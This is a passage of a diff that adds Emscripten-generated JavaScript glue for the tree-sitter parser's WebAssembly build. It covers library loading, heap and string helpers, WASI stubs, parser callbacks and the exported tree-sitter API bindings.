+          __name(loadLibData, "loadLibData");
+          function getExports() {
+            if (flags2.loadAsync) {
+              return loadLibData().then((libData) => loadWebAssemblyModule(libData, flags2, libName2, localScope2, handle2));
+            }
+            return loadWebAssemblyModule(loadLibData(), flags2, libName2, localScope2, handle2);
+          }
+          __name(getExports, "getExports");
+          function moduleLoaded(exports2) {
+            if (dso.global) {
+              mergeLibSymbols(exports2, libName2);
+            } else if (localScope2) {
+              Object.assign(localScope2, exports2);
+            }
+            dso.exports = exports2;
+          }
+          __name(moduleLoaded, "moduleLoaded");
+          if (flags2.loadAsync) {
+            return getExports().then((exports2) => {
+              moduleLoaded(exports2);
+              return true;
+            });
+          }
+          moduleLoaded(getExports());
+          return true;
+        }
+        __name(loadDynamicLibrary, "loadDynamicLibrary");
+        var reportUndefinedSymbols = /* @__PURE__ */ __name(() => {
+          for (var [symName, entry] of Object.entries(GOT)) {
+            if (entry.value == 0) {
+              var value = resolveGlobalSymbol(symName, true).sym;
+              if (!value && !entry.required) {
+                continue;
+              }
+              if (typeof value == "function") {
+                entry.value = addFunction(value, value.sig);
+              } else if (typeof value == "number") {
+                entry.value = value;
+              } else {
+                throw new Error(`bad export type for '${symName}': ${typeof value}`);
+              }
+            }
+          }
+        }, "reportUndefinedSymbols");
+        var loadDylibs = /* @__PURE__ */ __name(() => {
+          if (!dynamicLibraries.length) {
+            reportUndefinedSymbols();
+            return;
+          }
+          addRunDependency("loadDylibs");
+          dynamicLibraries.reduce((chain, lib) => chain.then(() => loadDynamicLibrary(lib, {
+            loadAsync: true,
+            global: true,
+            nodelete: true,
+            allowUndefined: true
+          })), Promise.resolve()).then(() => {
+            reportUndefinedSymbols();
+            removeRunDependency("loadDylibs");
+          });
+        }, "loadDylibs");
+        var noExitRuntime = Module["noExitRuntime"] || true;
+        function setValue(ptr, value, type = "i8") {
+          if (type.endsWith("*")) type = "*";
+          switch (type) {
+            case "i1":
+              HEAP8[ptr] = value;
+              break;
+            case "i8":
+              HEAP8[ptr] = value;
+              break;
+            case "i16":
+              LE_HEAP_STORE_I16((ptr >> 1) * 2, value);
+              break;
+            case "i32":
+              LE_HEAP_STORE_I32((ptr >> 2) * 4, value);
+              break;
+            case "i64":
+              HEAP64[ptr >> 3] = BigInt(value);
+              break;
+            case "float":
+              LE_HEAP_STORE_F32((ptr >> 2) * 4, value);
+              break;
+            case "double":
+              LE_HEAP_STORE_F64((ptr >> 3) * 8, value);
+              break;
+            case "*":
+              LE_HEAP_STORE_U32((ptr >> 2) * 4, value);
+              break;
+            default:
+              abort(`invalid type for setValue: ${type}`);
+          }
+        }
+        __name(setValue, "setValue");
+        var ___memory_base = new WebAssembly.Global({
+          "value": "i32",
+          "mutable": false
+        }, 1024);
+        var ___stack_pointer = new WebAssembly.Global({
+          "value": "i32",
+          "mutable": true
+        }, 78224);
+        var ___table_base = new WebAssembly.Global({
+          "value": "i32",
+          "mutable": false
+        }, 1);
+        var __abort_js = /* @__PURE__ */ __name(() => abort(""), "__abort_js");
+        __abort_js.sig = "v";
+        var _emscripten_get_now = /* @__PURE__ */ __name(() => performance.now(), "_emscripten_get_now");
+        _emscripten_get_now.sig = "d";
+        var _emscripten_date_now = /* @__PURE__ */ __name(() => Date.now(), "_emscripten_date_now");
+        _emscripten_date_now.sig = "d";
+        var nowIsMonotonic = 1;
+        var checkWasiClock = /* @__PURE__ */ __name((clock_id) => clock_id >= 0 && clock_id <= 3, "checkWasiClock");
+        var INT53_MAX = 9007199254740992;
+        var INT53_MIN = -9007199254740992;
+        var bigintToI53Checked = /* @__PURE__ */ __name((num) => num < INT53_MIN || num > INT53_MAX ? NaN : Number(num), "bigintToI53Checked");
+        function _clock_time_get(clk_id, ignored_precision, ptime) {
+          ignored_precision = bigintToI53Checked(ignored_precision);
+          if (!checkWasiClock(clk_id)) {
+            return 28;
+          }
+          var now;
+          if (clk_id === 0) {
+            now = _emscripten_date_now();
+          } else if (nowIsMonotonic) {
+            now = _emscripten_get_now();
+          } else {
+            return 52;
+          }
+          var nsec = Math.round(now * 1e3 * 1e3);
+          HEAP64[ptime >> 3] = BigInt(nsec);
+          return 0;
+        }
+        __name(_clock_time_get, "_clock_time_get");
+        _clock_time_get.sig = "iijp";
+        var getHeapMax = /* @__PURE__ */ __name(() => (
+          // Stay one Wasm page short of 4GB: while e.g. Chrome is able to allocate
+          // full 4GB Wasm memories, the size will wrap back to 0 bytes in Wasm side
+          // for any code that deals with heap sizes, which would require special
+          // casing all heap size related code to treat 0 specially.
+          2147483648
+        ), "getHeapMax");
+        var growMemory = /* @__PURE__ */ __name((size) => {
+          var b = wasmMemory.buffer;
+          var pages = (size - b.byteLength + 65535) / 65536 | 0;
+          try {
+            wasmMemory.grow(pages);
+            updateMemoryViews();
+            return 1;
+          } catch (e) {
+          }
+        }, "growMemory");
+        var _emscripten_resize_heap = /* @__PURE__ */ __name((requestedSize) => {
+          var oldSize = HEAPU8.length;
+          requestedSize >>>= 0;
+          var maxHeapSize = getHeapMax();
+          if (requestedSize > maxHeapSize) {
+            return false;
+          }
+          for (var cutDown = 1; cutDown <= 4; cutDown *= 2) {
+            var overGrownHeapSize = oldSize * (1 + 0.2 / cutDown);
+            overGrownHeapSize = Math.min(overGrownHeapSize, requestedSize + 100663296);
+            var newSize = Math.min(maxHeapSize, alignMemory(Math.max(requestedSize, overGrownHeapSize), 65536));
+            var replacement = growMemory(newSize);
+            if (replacement) {
+              return true;
+            }
+          }
+          return false;
+        }, "_emscripten_resize_heap");
+        _emscripten_resize_heap.sig = "ip";
+        var _fd_close = /* @__PURE__ */ __name((fd) => 52, "_fd_close");
+        _fd_close.sig = "ii";
+        function _fd_seek(fd, offset, whence, newOffset) {
+          offset = bigintToI53Checked(offset);
+          return 70;
+        }
+        __name(_fd_seek, "_fd_seek");
+        _fd_seek.sig = "iijip";
+        var printCharBuffers = [null, [], []];
+        var printChar = /* @__PURE__ */ __name((stream, curr) => {
+          var buffer = printCharBuffers[stream];
+          if (curr === 0 || curr === 10) {
+            (stream === 1 ? out : err)(UTF8ArrayToString(buffer));
+            buffer.length = 0;
+          } else {
+            buffer.push(curr);
+          }
+        }, "printChar");
+        var flush_NO_FILESYSTEM = /* @__PURE__ */ __name(() => {
+          if (printCharBuffers[1].length) printChar(1, 10);
+          if (printCharBuffers[2].length) printChar(2, 10);
+        }, "flush_NO_FILESYSTEM");
+        var SYSCALLS = {
+          varargs: void 0,
+          getStr(ptr) {
+            var ret = UTF8ToString(ptr);
+            return ret;
+          }
+        };
+        var _fd_write = /* @__PURE__ */ __name((fd, iov, iovcnt, pnum) => {
+          var num = 0;
+          for (var i2 = 0; i2 < iovcnt; i2++) {
+            var ptr = LE_HEAP_LOAD_U32((iov >> 2) * 4);
+            var len = LE_HEAP_LOAD_U32((iov + 4 >> 2) * 4);
+            iov += 8;
+            for (var j = 0; j < len; j++) {
+              printChar(fd, HEAPU8[ptr + j]);
+            }
+            num += len;
+          }
+          LE_HEAP_STORE_U32((pnum >> 2) * 4, num);
+          return 0;
+        }, "_fd_write");
+        _fd_write.sig = "iippp";
+        function _tree_sitter_log_callback(isLexMessage, messageAddress) {
+          if (Module.currentLogCallback) {
+            const message = UTF8ToString(messageAddress);
+            Module.currentLogCallback(message, isLexMessage !== 0);
+          }
+        }
+        __name(_tree_sitter_log_callback, "_tree_sitter_log_callback");
+        function _tree_sitter_parse_callback(inputBufferAddress, index, row, column, lengthAddress) {
+          const INPUT_BUFFER_SIZE = 10 * 1024;
+          const string = Module.currentParseCallback(index, {
+            row,
+            column
+          });
+          if (typeof string === "string") {
+            setValue(lengthAddress, string.length, "i32");
+            stringToUTF16(string, inputBufferAddress, INPUT_BUFFER_SIZE);
+          } else {
+            setValue(lengthAddress, 0, "i32");
+          }
+        }
+        __name(_tree_sitter_parse_callback, "_tree_sitter_parse_callback");
+        function _tree_sitter_progress_callback(currentOffset, hasError) {
+          if (Module.currentProgressCallback) {
+            return Module.currentProgressCallback({
+              currentOffset,
+              hasError
+            });
+          }
+          return false;
+        }
+        __name(_tree_sitter_progress_callback, "_tree_sitter_progress_callback");
+        function _tree_sitter_query_progress_callback(currentOffset) {
+          if (Module.currentQueryProgressCallback) {
+            return Module.currentQueryProgressCallback({
+              currentOffset
+            });
+          }
+          return false;
+        }
+        __name(_tree_sitter_query_progress_callback, "_tree_sitter_query_progress_callback");
+        var runtimeKeepaliveCounter = 0;
+        var keepRuntimeAlive = /* @__PURE__ */ __name(() => noExitRuntime || runtimeKeepaliveCounter > 0, "keepRuntimeAlive");
+        var _proc_exit = /* @__PURE__ */ __name((code) => {
+          EXITSTATUS = code;
+          if (!keepRuntimeAlive()) {
+            Module["onExit"]?.(code);
+            ABORT = true;
+          }
+          quit_(code, new ExitStatus(code));
+        }, "_proc_exit");
+        _proc_exit.sig = "vi";
+        var exitJS = /* @__PURE__ */ __name((status, implicit) => {
+          EXITSTATUS = status;
+          _proc_exit(status);
+        }, "exitJS");
+        var handleException = /* @__PURE__ */ __name((e) => {
+          if (e instanceof ExitStatus || e == "unwind") {
+            return EXITSTATUS;
+          }
+          quit_(1, e);
+        }, "handleException");
+        var lengthBytesUTF8 = /* @__PURE__ */ __name((str) => {
+          var len = 0;
+          for (var i2 = 0; i2 < str.length; ++i2) {
+            var c = str.charCodeAt(i2);
+            if (c <= 127) {
+              len++;
+            } else if (c <= 2047) {
+              len += 2;
+            } else if (c >= 55296 && c <= 57343) {
+              len += 4;
+              ++i2;
+            } else {
+              len += 3;
+            }
+          }
+          return len;
+        }, "lengthBytesUTF8");
+        var stringToUTF8Array = /* @__PURE__ */ __name((str, heap, outIdx, maxBytesToWrite) => {
+          if (!(maxBytesToWrite > 0)) return 0;
+          var startIdx = outIdx;
+          var endIdx = outIdx + maxBytesToWrite - 1;
+          for (var i2 = 0; i2 < str.length; ++i2) {
+            var u = str.charCodeAt(i2);
+            if (u >= 55296 && u <= 57343) {
+              var u1 = str.charCodeAt(++i2);
+              u = 65536 + ((u & 1023) << 10) | u1 & 1023;
+            }
+            if (u <= 127) {
+              if (outIdx >= endIdx) break;
+              heap[outIdx++] = u;
+            } else if (u <= 2047) {
+              if (outIdx + 1 >= endIdx) break;
+              heap[outIdx++] = 192 | u >> 6;
+              heap[outIdx++] = 128 | u & 63;
+            } else if (u <= 65535) {
+              if (outIdx + 2 >= endIdx) break;
+              heap[outIdx++] = 224 | u >> 12;
+              heap[outIdx++] = 128 | u >> 6 & 63;
+              heap[outIdx++] = 128 | u & 63;
+            } else {
+              if (outIdx + 3 >= endIdx) break;
+              heap[outIdx++] = 240 | u >> 18;
+              heap[outIdx++] = 128 | u >> 12 & 63;
+              heap[outIdx++] = 128 | u >> 6 & 63;
+              heap[outIdx++] = 128 | u & 63;
+            }
+          }
+          heap[outIdx] = 0;
+          return outIdx - startIdx;
+        }, "stringToUTF8Array");
+        var stringToUTF8 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => stringToUTF8Array(str, HEAPU8, outPtr, maxBytesToWrite), "stringToUTF8");
+        var stackAlloc = /* @__PURE__ */ __name((sz) => __emscripten_stack_alloc(sz), "stackAlloc");
+        var stringToUTF8OnStack = /* @__PURE__ */ __name((str) => {
+          var size = lengthBytesUTF8(str) + 1;
+          var ret = stackAlloc(size);
+          stringToUTF8(str, ret, size);
+          return ret;
+        }, "stringToUTF8OnStack");
+        var AsciiToString = /* @__PURE__ */ __name((ptr) => {
+          var str = "";
+          while (1) {
+            var ch = HEAPU8[ptr++];
+            if (!ch) return str;
+            str += String.fromCharCode(ch);
+          }
+        }, "AsciiToString");
+        var stringToUTF16 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => {
+          maxBytesToWrite ??= 2147483647;
+          if (maxBytesToWrite < 2) return 0;
+          maxBytesToWrite -= 2;
+          var startPtr = outPtr;
+          var numCharsToWrite = maxBytesToWrite < str.length * 2 ? maxBytesToWrite / 2 : str.length;
+          for (var i2 = 0; i2 < numCharsToWrite; ++i2) {
+            var codeUnit = str.charCodeAt(i2);
+            LE_HEAP_STORE_I16((outPtr >> 1) * 2, codeUnit);
+            outPtr += 2;
+          }
+          LE_HEAP_STORE_I16((outPtr >> 1) * 2, 0);
+          return outPtr - startPtr;
+        }, "stringToUTF16");
+        var wasmImports = {
+          /** @export */
+          __heap_base: ___heap_base,
+          /** @export */
+          __indirect_function_table: wasmTable,
+          /** @export */
+          __memory_base: ___memory_base,
+          /** @export */
+          __stack_pointer: ___stack_pointer,
+          /** @export */
+          __table_base: ___table_base,
+          /** @export */
+          _abort_js: __abort_js,
+          /** @export */
+          clock_time_get: _clock_time_get,
+          /** @export */
+          emscripten_resize_heap: _emscripten_resize_heap,
+          /** @export */
+          fd_close: _fd_close,
+          /** @export */
+          fd_seek: _fd_seek,
+          /** @export */
+          fd_write: _fd_write,
+          /** @export */
+          memory: wasmMemory,
+          /** @export */
+          tree_sitter_log_callback: _tree_sitter_log_callback,
+          /** @export */
+          tree_sitter_parse_callback: _tree_sitter_parse_callback,
+          /** @export */
+          tree_sitter_progress_callback: _tree_sitter_progress_callback,
+          /** @export */
+          tree_sitter_query_progress_callback: _tree_sitter_query_progress_callback
+        };
+        var wasmExports = await createWasm();
+        var ___wasm_call_ctors = wasmExports["__wasm_call_ctors"];
+        var _malloc = Module["_malloc"] = wasmExports["malloc"];
+        var _calloc = Module["_calloc"] = wasmExports["calloc"];
+        var _realloc = Module["_realloc"] = wasmExports["realloc"];
+        var _free = Module["_free"] = wasmExports["free"];
+        var _memcmp = Module["_memcmp"] = wasmExports["memcmp"];
+        var _ts_language_symbol_count = Module["_ts_language_symbol_count"] = wasmExports["ts_language_symbol_count"];
+        var _ts_language_state_count = Module["_ts_language_state_count"] = wasmExports["ts_language_state_count"];
+        var _ts_language_version = Module["_ts_language_version"] = wasmExports["ts_language_version"];
+        var _ts_language_abi_version = Module["_ts_language_abi_version"] = wasmExports["ts_language_abi_version"];
+        var _ts_language_metadata = Module["_ts_language_metadata"] = wasmExports["ts_language_metadata"];
+        var _ts_language_name = Module["_ts_language_name"] = wasmExports["ts_language_name"];
+        var _ts_language_field_count = Module["_ts_language_field_count"] = wasmExports["ts_language_field_count"];
+        var _ts_language_next_state = Module["_ts_language_next_state"] = wasmExports["ts_language_next_state"];
+        var _ts_language_symbol_name = Module["_ts_language_symbol_name"] = wasmExports["ts_language_symbol_name"];
+        var _ts_language_symbol_for_name = Module["_ts_language_symbol_for_name"] = wasmExports["ts_language_symbol_for_name"];
+        var _strncmp = Module["_strncmp"] = wasmExports["strncmp"];
+        var _ts_language_symbol_type = Module["_ts_language_symbol_type"] = wasmExports["ts_language_symbol_type"];
+        var _ts_language_field_name_for_id = Module["_ts_language_field_name_for_id"] = wasmExports["ts_language_field_name_for_id"];
+        var _ts_lookahead_iterator_new = Module["_ts_lookahead_iterator_new"] = wasmExports["ts_lookahead_iterator_new"];
+        var _ts_lookahead_iterator_delete = Module["_ts_lookahead_iterator_delete"] = wasmExports["ts_lookahead_iterator_delete"];
+        var _ts_lookahead_iterator_reset_state = Module["_ts_lookahead_iterator_reset_state"] = wasmExports["ts_lookahead_iterator_reset_state"];
+        var _ts_lookahead_iterator_reset = Module["_ts_lookahead_iterator_reset"] = wasmExports["ts_lookahead_iterator_reset"];
+        var _ts_lookahead_iterator_next = Module["_ts_lookahead_iterator_next"] = wasmExports["ts_lookahead_iterator_next"];
+        var _ts_lookahead_iterator_current_symbol = Module["_ts_lookahead_iterator_current_symbol"] = wasmExports["ts_lookahead_iterator_current_symbol"];
+        var _ts_parser_delete = Module["_ts_parser_delete"] = wasmExports["ts_parser_delete"];
+        var _ts_parser_reset = Module["_ts_parser_reset"] = wasmExports["ts_parser_reset"];
+        var _ts_parser_set_language = Module["_ts_parser_set_language"] = wasmExports["ts_parser_set_language"];
+        var _ts_parser_timeout_micros = Module["_ts_parser_timeout_micros"] = wasmExports["ts_parser_timeout_micros"];
+        var _ts_parser_set_timeout_micros = Module["_ts_parser_set_timeout_micros"] = wasmExports["ts_parser_set_timeout_micros"];
+        var _ts_parser_set_included_ranges = Module["_ts_parser_set_included_ranges"] = wasmExports["ts_parser_set_included_ranges"];
+        var _ts_query_new = Module["_ts_query_new"] = wasmExports["ts_query_new"];
+        var _ts_query_delete = Module["_ts_query_delete"] = wasmExports["ts_query_delete"];
+        var _iswspace = Module["_iswspace"] = wasmExports["iswspace"];
+        var _iswalnum = Module["_iswalnum"] = wasmExports["iswalnum"];
+        var _ts_query_pattern_count = Module["_ts_query_pattern_count"] = wasmExports["ts_query_pattern_count"];
+        var _ts_query_capture_count = Module["_ts_query_capture_count"] = wasmExports["ts_query_capture_count"];
+        var _ts_query_string_count = Module["_ts_query_string_count"] = wasmExports["ts_query_string_count"];
+        var _ts_query_capture_name_for_id = Module["_ts_query_capture_name_for_id"] = wasmExports["ts_query_capture_name_for_id"];
+        var _ts_query_capture_quantifier_for_id = Module["_ts_query_capture_quantifier_for_id"] = wasmExports["ts_query_capture_quantifier_for_id"];
+        var _ts_query_string_value_for_id = Module["_ts_query_string_value_for_id"] = wasmExports["ts_query_string_value_for_id"];
+        var _ts_query_predicates_for_pattern = Module["_ts_query_predicates_for_pattern"] = wasmExports["ts_query_predicates_for_pattern"];
+        var _ts_query_start_byte_for_pattern = Module["_ts_query_start_byte_for_pattern"] = wasmExports["ts_query_start_byte_for_pattern"];
+        var _ts_query_end_byte_for_pattern = Module["_ts_query_end_byte_for_pattern"] = wasmExports["ts_query_end_byte_for_pattern"];
+        var _ts_query_is_pattern_rooted = Module["_ts_query_is_pattern_rooted"] = wasmExports["ts_query_is_pattern_rooted"];
+        var _ts_query_is_pattern_non_local = Module["_ts_query_is_pattern_non_local"] = wasmExports["ts_query_is_pattern_non_local"];
+        var _ts_query_is_pattern_guaranteed_at_step = Module["_ts_query_is_pattern_guaranteed_at_step"] = wasmExports["ts_query_is_pattern_guaranteed_at_step"];
+        var _ts_query_disable_capture = Module["_ts_query_disable_capture"] = wasmExports["ts_query_disable_capture"];
+        var _ts_query_disable_pattern = Module["_ts_query_disable_pattern"] = wasmExports["ts_query_disable_pattern"];
+        var _ts_tree_copy = Module["_ts_tree_copy"] = wasmExports["ts_tree_copy"];
+        var _ts_tree_delete = Module["_ts_tree_delete"] = wasmExports["ts_tree_delete"];
+        var _ts_init = Module["_ts_init"] = wasmExports["ts_init"];
+        var _ts_parser_new_wasm = Module["_ts_parser_new_wasm"] = wasmExports["ts_parser_new_wasm"];
+        var _ts_parser_enable_logger_wasm = Module["_ts_parser_enable_logger_wasm"] = wasmExports["ts_parser_enable_logger_wasm"];
+        var _ts_parser_parse_wasm = Module["_ts_parser_parse_wasm"] = wasmExports["ts_parser_parse_wasm"];
+        var _ts_parser_included_ranges_wasm = Module["_ts_parser_included_ranges_wasm"] = wasmExports["ts_parser_included_ranges_wasm"];
+        var _ts_language_type_is_named_wasm = Module["_ts_language_type_is_named_wasm"] = wasmExports["ts_language_type_is_named_wasm"];
+        var _ts_language_type_is_visible_wasm = Module["_ts_language_type_is_visible_wasm"] = wasmExports["ts_language_type_is_visible_wasm"];
+        var _ts_language_supertypes_wasm = Module["_ts_language_supertypes_wasm"] = wasmExports["ts_language_supertypes_wasm"];
+        var _ts_language_subtypes_wasm = Module["_ts_language_subtypes_wasm"] = wasmExports["ts_language_subtypes_wasm"];
+        var _ts_tree_root_node_wasm = Module["_ts_tree_root_node_wasm"] = wasmExports["ts_tree_root_node_wasm"];
+        var _ts_tree_root_node_with_offset_wasm = Module["_ts_tree_root_node_with_offset_wasm"] = wasmExports["ts_tree_root_node_with_offset_wasm"];
+        var _ts_tree_edit_wasm = Module["_ts_tree_edit_wasm"] = wasmExports["ts_tree_edit_wasm"];
+        var _ts_tree_included_ranges_wasm = Module["_ts_tree_included_ranges_wasm"] = wasmExports["ts_tree_included_ranges_wasm"];
+        var _ts_tree_get_changed_ranges_wasm = Module["_ts_tree_get_changed_ranges_wasm"] = wasmExports["ts_tree_get_changed_ranges_wasm"];
+        var _ts_tree_cursor_new_wasm = Module["_ts_tree_cursor_new_wasm"] = wasmExports["ts_tree_cursor_new_wasm"];
+        var _ts_tree_cursor_copy_wasm = Module["_ts_tree_cursor_copy_wasm"] = wasmExports["ts_tree_cursor_copy_wasm"];
+        var _ts_tree_cursor_delete_wasm = Module["_ts_tree_cursor_delete_wasm"] = wasmExports["ts_tree_cursor_delete_wasm"];
+        var _ts_tree_cursor_reset_wasm = Module["_ts_tree_cursor_reset_wasm"] = wasmExports["ts_tree_cursor_reset_wasm"];
+        var _ts_tree_cursor_reset_to_wasm = Module["_ts_tree_cursor_reset_to_wasm"] = wasmExports["ts_tree_cursor_reset_to_wasm"];
+        var _ts_tree_cursor_goto_first_child_wasm = Module["_ts_tree_cursor_goto_first_child_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_wasm"];
+        var _ts_tree_cursor_goto_last_child_wasm = Module["_ts_tree_cursor_goto_last_child_wasm"] = wasmExports["ts_tree_cursor_goto_last_child_wasm"];
+        var _ts_tree_cursor_goto_first_child_for_index_wasm = Module["_ts_tree_cursor_goto_first_child_for_index_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_index_wasm"];
+        var _ts_tree_cursor_goto_first_child_for_position_wasm = Module["_ts_tree_cursor_goto_first_child_for_position_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_position_wasm"];
+        var _ts_tree_cursor_goto_next_sibling_wasm = Module["_ts_tree_cursor_goto_next_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_next_sibling_wasm"];
+        var _ts_tree_cursor_goto_previous_sibling_wasm = Module["_ts_tree_cursor_goto_previous_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_previous_sibling_wasm"];
+        var _ts_tree_cursor_goto_descendant_wasm = Module["_ts_tree_cursor_goto_descendant_wasm"] = wasmExports["ts_tree_cursor_goto_descendant_wasm"];
+        var _ts_tree_cursor_goto_parent_wasm = Module["_ts_tree_cursor_goto_parent_wasm"] = wasmExports["ts_tree_cursor_goto_parent_wasm"];
+        var _ts_tree_cursor_current_node_type_id_wasm = Module["_ts_tree_cursor_current_node_type_id_wasm"] = wasmExports["ts_tree_cursor_current_node_type_id_wasm"];
+        var _ts_tree_cursor_current_node_state_id_wasm = Module["_ts_tree_cursor_current_node_state_id_wasm"] = wasmExports["ts_tree_cursor_current_node_state_id_wasm"];
+        var _ts_tree_cursor_current_node_is_named_wasm = Module["_ts_tree_cursor_current_node_is_named_wasm"] = wasmExports["ts_tree_cursor_current_node_is_named_wasm"];
+        var _ts_tree_cursor_current_node_is_missing_wasm = Module["_ts_tree_cursor_current_node_is_missing_wasm"] = wasmExports["ts_tree_cursor_current_node_is_missing_wasm"];
+        var _ts_tree_cursor_current_node_id_wasm = Module["_ts_tree_cursor_current_node_id_wasm"] = wasmExports["ts_tree_cursor_current_node_id_wasm"];
+        var _ts_tree_cursor_start_position_wasm = Module["_ts_tree_cursor_start_position_wasm"] = wasmExports["ts_tree_cursor_start_position_wasm"];
+        var _ts_tree_cursor_end_position_wasm = Module["_ts_tree_cursor_end_position_wasm"] = wasmExports["ts_tree_cursor_end_position_wasm"];
+        var _ts_tree_cursor_start_index_wasm = Module["_ts_tree_cursor_start_index_wasm"] = wasmExports["ts_tree_cursor_start_index_wasm"];
+        var _ts_tree_cursor_end_index_wasm = Module["_ts_tree_cursor_end_index_wasm"] = wasmExports["ts_tree_cursor_end_index_wasm"];
+        var _ts_tree_cursor_current_field_id_wasm = Module["_ts_tree_cursor_current_field_id_wasm"] = wasmExports["ts_tree_cursor_current_field_id_wasm"];
+        var _ts_tree_cursor_current_depth_wasm = Module["_ts_tree_cursor_current_depth_wasm"] = wasmExports["ts_tree_cursor_current_depth_wasm"];
+        var _ts_tree_cursor_current_descendant_index_wasm = Module["_ts_tree_cursor_current_descendant_index_wasm"] = wasmExports["ts_tree_cursor_current_descendant_index_wasm"];
+        var _ts_tree_cursor_current_node_wasm = Module["_ts_tree_cursor_current_node_wasm"] = wasmExports["ts_tree_cursor_current_node_wasm"];
+        var _ts_node_symbol_wasm = Module["_ts_node_symbol_wasm"] = wasmExports["ts_node_symbol_wasm"];
+        var _ts_node_field_name_for_child_wasm = Module["_ts_node_field_name_for_child_wasm"] = wasmExports["ts_node_field_name_for_child_wasm"];
+        var _ts_node_field_name_for_named_child_wasm = Module["_ts_node_field_name_for_named_child_wasm"] = wasmExports["ts_node_field_name_for_named_child_wasm"];
+        var _ts_node_children_by_field_id_wasm = Module["_ts_node_children_by_field_id_wasm"] = wasmExports["ts_node_children_by_field_id_wasm"];
+        var _ts_node_first_child_for_byte_wasm = Module["_ts_node_first_child_for_byte_wasm"] = wasmExports["ts_node_first_child_for_byte_wasm"];
+        var _ts_node_first_named_child_for_byte_wasm = Module["_ts_node_first_named_child_for_byte_wasm"] = wasmExports["ts_node_first_named_child_for_byte_wasm"];
+        var _ts_node_grammar_symbol_wasm = Module["_ts_node_grammar_symbol_wasm"] = wasmExports["ts_node_grammar_symbol_wasm"];
+        var _ts_node_child_count_wasm = Module["_ts_node_child_count_wasm"] = wasmExports["ts_node_child_count_wasm"];
+        var _ts_node_named_child_count_wasm = Module["_ts_node_named_child_count_wasm"] = wasmExports["ts_node_named_child_count_wasm"];
+        var _ts_node_child_wasm = Module["_ts_node_child_wasm"] = wasmExports["ts_node_child_wasm"];
+        var _ts_node_named_child_wasm = Module["_ts_node_named_child_wasm"] = wasmExports["ts_node_named_child_wasm"];
+        var _ts_node_child_by_field_id_wasm = Module["_ts_node_child_by_field_id_wasm"] = wasmExports["ts_node_child_by_field_id_wasm"];
+        var _ts_node_next_sibling_wasm = Module["_ts_node_next_sibling_wasm"] = wasmExports["ts_node_next_sibling_wasm"];
+        var _ts_node_prev_sibling_wasm = Module["_ts_node_prev_sibling_wasm"] = wasmExports["ts_node_prev_sibling_wasm"];
+        var _ts_node_next_named_sibling_wasm = Module["_ts_node_next_named_sibling_wasm"] = wasmExports["ts_node_next_named_sibling_wasm"];
+        var _ts_node_prev_named_sibling_wasm = Module["_ts_node_prev_named_sibling_wasm"] = wasmExports["ts_node_prev_named_sibling_wasm"];
+        var _ts_node_descendant_count_wasm = Module["_ts_node_descendant_count_wasm"] = wasmExports["ts_node_descendant_count_wasm"];
+        var _ts_node_parent_wasm = Module["_ts_node_parent_wasm"] = wasmExports["ts_node_parent_wasm"];
+        var _ts_node_child_with_descendant_wasm = Module["_ts_node_child_with_descendant_wasm"] = wasmExports["ts_node_child_with_descendant_wasm"];
+        var _ts_node_descendant_for_index_wasm = Module["_ts_node_descendant_for_index_wasm"] = wasmExports["ts_node_descendant_for_index_wasm"];
+        var _ts_node_named_descendant_for_index_wasm = Module["_ts_node_named_descendant_for_index_wasm"] = wasmExports["ts_node_named_descendant_for_index_wasm"];
+        var _ts_node_descendant_for_position_wasm = Module["_ts_node_descendant_for_position_wasm"] = wasmExports["ts_node_descendant_for_position_wasm"];
+        var _ts_node_named_descendant_for_position_wasm = Module["_ts_node_named_descendant_for_position_wasm"] = wasmExports["ts_node_named_descendant_for_position_wasm"];
+        var _ts_node_start_point_wasm = Module["_ts_node_start_point_wasm"] = wasmExports["ts_node_start_point_wasm"];
+        var _ts_node_end_point_wasm = Module["_ts_node_end_point_wasm"] = wasmExports["ts_node_end_point_wasm"];
+        var _ts_node_start_index_wasm = Module["_ts_node_start_index_wasm"] = wasmExports["ts_node_start_index_wasm"];
+        var _ts_node_end_index_wasm = Module["_ts_node_end_index_wasm"] = wasmExports["ts_node_end_index_wasm"];
+        var _ts_node_to_string_wasm = Module["_ts_node_to_string_wasm"] = wasmExports["ts_node_to_string_wasm"];
+        var _ts_node_children_wasm = Module["_ts_node_children_wasm"] = wasmExports["ts_node_children_wasm"];
+        var _ts_node_named_children_wasm = Module["_ts_node_named_children_wasm"] = wasmExports["ts_node_named_children_wasm"];
+        var _ts_node_descendants_of_type_wasm = Module["_ts_node_descendants_of_type_wasm"] = wasmExports["ts_node_descendants_of_type_wasm"];
+        var _ts_node_is_named_wasm = Module["_ts_node_is_named_wasm"] = wasmExports["ts_node_is_named_wasm"];
+        var _ts_node_has_changes_wasm = Module["_ts_node_has_changes_wasm"] = wasmExports["ts_node_has_changes_wasm"];
+        var _ts_node_has_error_wasm = Module["_ts_node_has_error_wasm"] = wasmExports["ts_node_has_error_wasm"];
+        var _ts_node_is_error_wasm = Module["_ts_node_is_error_wasm"] = wasmExports["ts_node_is_error_wasm"];
+        var _ts_node_is_missing_wasm = Module["_ts_node_is_missing_wasm"] = wasmExports["ts_node_is_missing_wasm"];
+        var _ts_node_is_extra_wasm = Module["_ts_node_is_extra_wasm"] = wasmExports["ts_node_is_extra_wasm"];
+        var _ts_node_parse_state_wasm = Module["_ts_node_parse_state_wasm"] = wasmExports["ts_node_parse_state_wasm"];
+        var _ts_node_next_parse_state_wasm = Module["_ts_node_next_parse_state_wasm"] = wasmExports["ts_node_next_parse_state_wasm"];
+        var _ts_query_matches_wasm = Module["_ts_query_matches_wasm"] = wasmExports["ts_query_matches_wasm"];
+        var _ts_query_captures_wasm = Module["_ts_query_captures_wasm"] = wasmExports["ts_query_captures_wasm"];
+        var _memset = Module["_memset"] = wasmExports["memset"];
+        var _memcpy = Module["_memcpy"] = wasmExports["memcpy"];
+        var _memmove = Module["_memmove"] = wasmExports["memmove"];
+        var _iswalpha = Module["_iswalpha"] = wasmExports["iswalpha"];
+        var _iswblank = Module["_iswblank"] = wasmExports["iswblank"];
+        var _iswdigit = Module["_iswdigit"] = wasmExports["iswdigit"];
+        var _iswlower = Module["_iswlower"] = wasmExports["iswlower"];
+        var _iswupper = Module["_iswupper"] = wasmExports["iswupper"];
